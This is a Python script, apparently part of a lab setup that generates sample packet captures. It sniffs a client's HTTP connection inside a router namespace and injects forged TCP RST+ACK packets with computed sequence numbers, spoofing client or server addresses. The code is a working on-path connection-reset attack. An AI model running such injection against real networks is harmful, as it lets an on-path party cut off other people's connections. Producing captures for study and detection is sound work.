#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""On-path RST injector for the "forged/injected RST" sample captures.

Runs inside the router namespace of make-captures.sh (ip netns exec).  It
sniffs the client's segments to port 80 on the router's client-facing
interface, waits for a trigger segment, then sends forged RST+ACK segments
toward the server (claiming to come from the client), toward the client
(claiming to come from the server), or both, and exits.  Only the RSTs are
crafted; the connection they hit is ordinary kernel traffic.

The RSTs are sent at layer 3 through a raw IP socket (scapy send() with an
L3RawSocket), so the router namespace's kernel routes them out of the
right interface and resolves the next hop; scapy's own ARP is not used.

"Exact" sequence numbers, from the trigger segment T (payload length L):
  toward the server (from the client): seq = T.seq + L, ack = T.ack
  toward the client (from the server): seq = T.ack,     ack = T.seq + L
With --seq-offset O, --count N and --step D the k-th RST (k = 0..N-1)
toward each target has seq = exact + O + k*D.

    /usr/bin/python3 rst-injector.py --iface rtr-cli --ready FILE \\
        --trigger request --toward both [--ttl N] [--seq-offset N] \\
        [--count N] [--step N] [--ipid scapy|random|kernel|N]

One line per sent packet goes to stdout.  Exit status 0 if RSTs were sent,
1 if no trigger was seen before --timeout.
"""

import argparse
import os
import random
import sys
import time

from scapy.all import IP, TCP, conf, send, sniff
from scapy.supersocket import L3RawSocket

CLIENT = "192.0.2.2"
SERVER = "198.51.100.2"
PORT = 80


def log(msg):
    print("injector: %s" % msg, flush=True)


def payload_len(pkt):
    """TCP payload length from the IP header (no Ethernet padding)."""
    ip = pkt[IP]
    return ip.len - 4 * ip.ihl - 4 * pkt[TCP].dataofs


def tcp_flags(pkt):
    return str(pkt[TCP].flags)


class Trigger:
    """Decides which sniffed client segment is the trigger."""

    def __init__(self, kind, on_hit):
        self.kind = kind
        self.on_hit = on_hit    # called with the trigger, before sniff ends
        self.saw_syn = False
        self.isn = None         # client ISN, for relative numbers in the log
        self.peer_isn = None    # server ISN (from the client's first ACK)
        self.packet = None

    def __call__(self, pkt):
        if IP not in pkt or TCP not in pkt:
            return False
        flags = tcp_flags(pkt)
        tcp = pkt[TCP]
        if "S" in flags:
            self.saw_syn = True
            self.isn = tcp.seq
            return False
        if "R" in flags or "A" not in flags:
            return False
        if self.peer_isn is None:
            self.peer_isn = (tcp.ack - 1) & 0xffffffff
        if self.isn is None:
            self.isn = (tcp.seq - 1) & 0xffffffff
        plen = payload_len(pkt)
        if self.kind == "handshake-ack":
            hit = self.saw_syn and flags == "A" and plen == 0
        else:                   # request
            hit = plen > 0
        if hit:
            self.packet = pkt
            self.on_hit(self)
        return hit


def pick_ipid(mode):
    """IP-ID field for one packet, or None to leave scapy's default (1)."""
    if mode == "scapy":
        return None
    if mode == "random":
        return random.randint(1, 0xffff)
    if mode == "kernel":
        return 0        # raw socket with IP_HDRINCL: the kernel fills it in
    return int(mode)


def build(args, trig):
    """The forged RSTs, in sending order, with a description of each."""
    t = trig.packet
    ip, tcp = t[IP], t[TCP]
    plen = payload_len(t)
    cport = tcp.sport
    out = []
    for k in range(args.count):
        delta = args.seq_offset + k * args.step
        targets = []
        if args.toward in ("server", "both"):
            exact = (tcp.seq + plen) & 0xffffffff
            targets.append(("server", ip.src, ip.dst, cport, tcp.dport,
                            exact, tcp.ack, trig.isn, trig.peer_isn))
        if args.toward in ("client", "both"):
            exact = tcp.ack
            targets.append(("client", ip.dst, ip.src, tcp.dport, cport,
                            exact, (tcp.seq + plen) & 0xffffffff,
                            trig.peer_isn, trig.isn))
        for (who, src, dst, sport, dport, exact, ack, sisn, aisn) in targets:
            seq = (exact + delta) & 0xffffffff
            iph = IP(src=src, dst=dst)
            if args.ttl is not None:
                iph.ttl = args.ttl
            ipid = pick_ipid(args.ipid)
            if ipid is not None:
                iph.id = ipid
            pkt = iph / TCP(sport=sport, dport=dport, flags="RA",
                            seq=seq, ack=ack, window=0)
            desc = ("RST+ACK toward the %s: %s:%d -> %s:%d seq=%d "
                    "(relative %d, exact%+d) ack=%d (relative %d) ttl=%d "
                    "ipid=%s" % (
                        who, src, sport, dst, dport, seq,
                        (seq - sisn) & 0xffffffff, delta, ack,
                        (ack - aisn) & 0xffffffff, pkt[IP].ttl,
                        "kernel" if ipid == 0 else pkt[IP].id))
            out.append((pkt, desc))
    return out


def parse_args(argv):
    p = argparse.ArgumentParser(
        description="Sniff a client's connection to port 80 and inject "
                    "forged RSTs (run inside the router namespace).")
    p.add_argument("--iface", required=True,
                   help="interface to sniff the client's segments on "
                        "(the router's client-facing one)")
    p.add_argument("--ready", required=True, metavar="FILE",
                   help="file created once sniffing has started")
    p.add_argument("--trigger", choices=("handshake-ack", "request"),
                   default="request",
                   help="handshake-ack: the client's first pure ACK after "
                        "its SYN; request: its first segment with payload")
    p.add_argument("--toward", choices=("server", "client", "both"),
                   default="server")
    p.add_argument("--ttl", type=int, default=None,
                   help="TTL of the injected packets (default: scapy's 64, "
                        "what the router itself uses)")
    p.add_argument("--seq-offset", type=int, default=0,
                   help="added to the exact sequence number (default 0)")
    p.add_argument("--count", type=int, default=1,
                   help="RSTs per target (default 1)")
    p.add_argument("--step", type=int, default=5000,
                   help="sequence step between the RSTs of a burst")
    p.add_argument("--ipid", default="scapy",
                   help="scapy (its default, 1), random, kernel (0: the "
                        "router's kernel picks one) or a number")
    p.add_argument("--client", default=CLIENT)
    p.add_argument("--server", default=SERVER)
    p.add_argument("--port", type=int, default=PORT)
    p.add_argument("--timeout", type=float, default=10.0,
                   help="give up after this many seconds (default 10)")
    p.add_argument("--max-packets", type=int, default=50,
                   help="give up after sniffing this many segments")
    args = p.parse_args(argv)
    if args.ipid not in ("scapy", "random", "kernel"):
        try:
            if not 0 <= int(args.ipid) <= 0xffff:
                raise ValueError
        except ValueError:
            p.error("--ipid: scapy, random, kernel or 0..65535")
    if args.count < 1 or not (args.ttl is None or 1 <= args.ttl <= 255):
        p.error("--count must be >= 1, --ttl 1..255")
    return args


def main(argv):
    args = parse_args(argv)
    conf.verb = 0
    sent = []
    # Open the sending socket and load scapy's view of the routes before
    # sniffing, so that little is left to do between trigger and RST.
    sock = L3RawSocket(iface=args.iface)   # (its receive side is unused)
    conf.route.route(args.server)

    def inject(trig):
        # Send from inside the sniff callback: closing the sniffing socket
        # (when sniff() returns) takes 10-20 ms.
        for pkt, desc in build(args, trig):
            sent.append((time.time(), desc))
            send(pkt, socket=sock)

    trig = Trigger(args.trigger, inject)
    bpf = ("tcp and src host %s and dst host %s and dst port %d"
           % (args.client, args.server, args.port))

    def started():
        with open(args.ready, "w") as f:
            f.write("%d\n" % os.getpid())
        log("sniffing on %s (%s), trigger %s" % (args.iface, bpf,
                                                  args.trigger))

    try:
        sniff(iface=args.iface, filter=bpf, store=False, stop_filter=trig,
              timeout=args.timeout, count=args.max_packets,
              started_callback=started)
    finally:
        sock.close()
    if trig.packet is None:
        log("no trigger segment within %.0f s / %d packets; nothing sent"
            % (args.timeout, args.max_packets))
        return 1
    t = trig.packet
    log("trigger: %s:%d -> %s:%d flags %s seq=%d ack=%d len=%d "
        "(relative seq %d ack %d)" % (
            t[IP].src, t[TCP].sport, t[IP].dst, t[TCP].dport, tcp_flags(t),
            t[TCP].seq, t[TCP].ack, payload_len(t),
            (t[TCP].seq - trig.isn) & 0xffffffff,
            (t[TCP].ack - trig.peer_isn) & 0xffffffff))
    for t_sent, desc in sent:
        log("sent %s; send() called %.1f ms after the trigger's "
            "receive time stamp" % (desc, 1000 * (t_sent - float(t.time))))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
